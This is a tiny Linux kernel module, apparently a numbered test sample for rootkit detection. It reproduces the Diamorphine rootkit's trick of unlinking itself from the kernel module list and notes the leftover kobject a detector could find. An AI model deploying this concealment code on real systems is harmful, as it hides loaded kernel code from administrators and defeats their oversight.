// SPDX-License-Identifier: GPL-2.0
/* Technique 4: unlink itself from the modules list (Diamorphine); its
 * kobject stays in module_kset. */
#include <linux/module.h>

static int __init rk_hidemod_init(void)
{
	list_del(&THIS_MODULE->list);
	pr_info("rk_hidemod: hidden\n");
	return 0;
}
module_init(rk_hidemod_init);
MODULE_LICENSE("GPL");
